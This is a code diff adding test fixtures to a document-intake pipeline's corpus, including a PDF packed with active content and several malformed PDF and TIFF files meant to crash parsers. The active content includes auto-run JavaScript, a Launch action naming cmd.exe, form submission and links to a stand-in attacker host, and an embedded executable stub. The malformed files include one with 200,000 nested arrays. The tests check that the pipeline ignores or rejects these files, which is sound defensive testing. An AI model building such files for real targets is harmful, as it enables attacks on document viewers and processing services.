@@ -119,6 +119,111 @@ def pdf_with_embedded_file(tmp: Path) -> bytes:
     return buf.getvalue()
 
 
+ACTIVE_PDF_NAMES = ("/JavaScript", "/JS", "/OpenAction", "/AA", "/Launch", "/EmbeddedFiles", "/URI",
+                    "/SubmitForm", "/ImportData", "/RichMedia", "/FileAttachment", "/GoToR", "/XFA")
+
+
+def pdf_with_every_active_content(tmp: Path) -> bytes:
+    """A readable one-page letter carrying every kind of active content a viewer might run:
+    /OpenAction JavaScript, document and page /AA, /Names JavaScript and EmbeddedFiles, a
+    Launch link, a URI link, a SubmitForm button in an AcroForm (with XFA), a RichMedia and a
+    FileAttachment annotation, an outline item with a URI action and a catalog /URI base."""
+    from pypdf import PdfReader, PdfWriter
+    from pypdf.generic import (
+        ArrayObject,
+        DictionaryObject,
+        FloatObject,
+        NameObject,
+        NumberObject,
+        TextStringObject,
+    )
+
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(good_pdf_bytes(tmp, 14))))
+    n, d = NameObject, DictionaryObject
+
+    def action(kind: str, **extra: object) -> object:
+        body = d({n("/Type"): n("/Action"), n("/S"): n(kind)})
+        body.update({n("/" + k): v for k, v in extra.items()})
+        return writer._add_object(body)
+
+    js = lambda: action("/JavaScript", JS=TextStringObject("app.alert('never run');"))
+    rect = ArrayObject([FloatObject(10), FloatObject(10), FloatObject(60), FloatObject(60)])
+    root = writer._root_object
+    root[n("/OpenAction")] = js()
+    root[n("/AA")] = d({n("/WC"): js()})
+    root[n("/URI")] = d({n("/Base"): TextStringObject("http://attacker.invalid/")})
+    writer.add_attachment("payload.exe", b"MZ" + b"\x00" * 64)
+    root["/Names"].get_object()[n("/JavaScript")] = d({n("/Names"): ArrayObject([TextStringObject("x"), js()])})
+    page = writer.pages[0]
+    page[n("/AA")] = d({n("/O"): js()})
+    submit = action("/SubmitForm", F=d({n("/FS"): n("/URL"), n("/F"): TextStringObject("http://attacker.invalid/")}))
+    widget = writer._add_object(d({n("/Type"): n("/Annot"), n("/Subtype"): n("/Widget"), n("/FT"): n("/Btn"),
+                                   n("/T"): TextStringObject("send"), n("/Rect"): rect, n("/A"): submit,
+                                   n("/AA"): d({n("/E"): js()})}))
+    annots = [
+        d({n("/Type"): n("/Annot"), n("/Subtype"): n("/Link"), n("/Rect"): rect,
+           n("/A"): action("/Launch", F=TextStringObject("cmd.exe"))}),
+        d({n("/Type"): n("/Annot"), n("/Subtype"): n("/Link"), n("/Rect"): rect,
+           n("/A"): action("/URI", URI=TextStringObject("http://attacker.invalid/x"))}),
+        d({n("/Type"): n("/Annot"), n("/Subtype"): n("/RichMedia"), n("/Rect"): rect,
+           n("/RichMediaContent"): d({n("/Assets"): d()})}),
+        d({n("/Type"): n("/Annot"), n("/Subtype"): n("/FileAttachment"), n("/Rect"): rect,
+           n("/FS"): d({n("/Type"): n("/Filespec"), n("/F"): TextStringObject("x.exe")})}),
+        d({n("/Type"): n("/Annot"), n("/Subtype"): n("/Link"), n("/Rect"): rect,
+           n("/A"): action("/ImportData", F=TextStringObject("data.fdf"))}),
+        d({n("/Type"): n("/Annot"), n("/Subtype"): n("/Link"), n("/Rect"): rect,
+           n("/A"): action("/GoToR", F=TextStringObject("other.pdf"), D=ArrayObject([NumberObject(0)]))}),
+    ]
+    page[n("/Annots")] = ArrayObject([writer._add_object(a) for a in annots] + [widget])
+    root[n("/AcroForm")] = writer._add_object(d({n("/Fields"): ArrayObject([widget]),
+                                                n("/XFA"): TextStringObject("<xdp/>")}))
+    outline = writer.add_outline_item(title="see", page_number=0)
+    outline.get_object()[n("/A")] = action("/URI", URI=TextStringObject("http://attacker.invalid/o"))
+    buf = io.BytesIO()
+    writer.write(buf)
+    return buf.getvalue()
+
+
+def pdf_nested_arrays(depth: int = 200_000) -> bytes:
+    """A one-page letter whose page dictionary holds ``depth`` nested arrays: pdfium renders
+    it, pypdf's recursive parser cannot read it (the searchable-PDF step)."""
+    content = b"BT /F1 12 Tf 72 720 Td (Referral letter, nested junk below) Tj ET"
+    return _pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+                    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R"
+                    b"/Resources<</Font<</F1 5 0 R>>>>/Junk " + b"[" * depth + b"]" * depth + b">>",
+                    b"<</Length %d>>stream\n" % len(content) + content + b"\nendstream",
+                    b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"])
+
+
+def _pdf_of(objs: list[bytes]) -> bytes:
+    """A PDF file of the given object bodies (1 = catalog) with a correct xref."""
+    out, offsets = bytearray(b"%PDF-1.4\n"), []
+    for i, body in enumerate(objs, 1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
+    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
+    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
+    return bytes(out)
+
+
+def pdf_with_a_kid_that_is_not_a_page() -> bytes:
+    """Two pages announced, the second a string: pdfium opens the file, then fails the page."""
+    return _pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R 4 0 R]/Count 2>>",
+                    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>", b"(not a page)"])
+
+
+def tiff_second_page_without_width() -> bytes:
+    """A two-page TIFF whose second directory lost its ImageWidth tag (Pillow: TypeError)."""
+    frames = [Image.new("1", (16, 16), 1) for _ in range(2)]
+    data = image_bytes(frames[0], "TIFF", save_all=True, append_images=frames[1:], compression="group4")
+    width_entry = b"\x00\x01\x03\x00\x01\x00\x00\x00"  # tag 256, SHORT, count 1 (little-endian)
+    at = data.rfind(width_entry)
+    assert at > data.find(width_entry), "the second directory's width entry"
+    return data[:at] + b"\xfe\xff" + data[at + 2:]
+
+
 def pdf_without_pages() -> bytes:
     body = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
     xref_at = len(body)
@@ -212,6 +317,14 @@ def object_cases(tmp: Path, *, max_object_bytes: int) -> list[ObjectCase]:
                    Expect("accepted", flag="active-content-ignored")),
         ObjectCase("pdf-with-embedded-file", "station/attach.pdf", pdf_with_embedded_file(tmp),
                    Expect("accepted", flag="active-content-ignored")),
+        # issue 11: hostile PDFs and images end at the first attempt; renditions are inert
+        ObjectCase("pdf-with-every-active-content", "station/active.pdf", pdf_with_every_active_content(tmp),
+                   Expect("accepted", flag="active-content-ignored")),
+        ObjectCase("pdf-200k-nested-arrays", "station/nested.pdf", pdf_nested_arrays(), dead("ocr", R.CORRUPT)),
+        ObjectCase("pdf-kid-not-a-page", "station/kid.pdf", pdf_with_a_kid_that_is_not_a_page(),
+                   dead("ocr", R.CORRUPT)),
+        ObjectCase("tiff-second-page-without-width", "station/nowidth.tif", tiff_second_page_without_width(),
+                   dead("ocr", R.CORRUPT)),
         ObjectCase("pdf-of-500-pages", "station/batch500.pdf", pdf_of_blank_pages(500),
                    dead("ocr", R.TOO_MANY_PAGES)),
         ObjectCase("pdf-page-of-200-inches", "station/poster.pdf", pdf_of_blank_pages(1, width_pt=14400,
@@ -313,6 +426,9 @@ def event_cases(*, intake_bucket: str, derived_bucket: str, max_event_bytes: int
     add("unicode-key-never-stored", OC, lambda m: _s3_event(bucket=intake_bucket, key=f"Ärztebrief 患者 {m}.pdf",
                                                             marker=m),
         dead("intake", R.OBJECT_MISSING))
+    add("records-empty", OC, lambda m: json.dumps({"EventName": "s3:ObjectCreated:Put", "Key": m,
+                                                   "Records": []}).encode(),
+        Expect("skip", "no-records"))
     add("object-removed-event", OC, lambda m: _s3_event(bucket=intake_bucket, key=f"x-{m}.pdf", marker=m,
                                                         event_name="s3:ObjectRemoved:Delete"),
         Expect("skip", R.NOT_OBJECT_CREATED.value))
@@ -360,4 +476,4 @@ def corpus(tmp: Path, *, intake_bucket: str, derived_bucket: str, max_event_byte
     )
 
 
-__all__ = ["Corpus", "EventCase", "Expect", "ObjectCase", "corpus", "good_pdf_bytes"]
+__all__ = ["ACTIVE_PDF_NAMES", "Corpus", "EventCase", "Expect", "ObjectCase", "corpus", "good_pdf_bytes"]
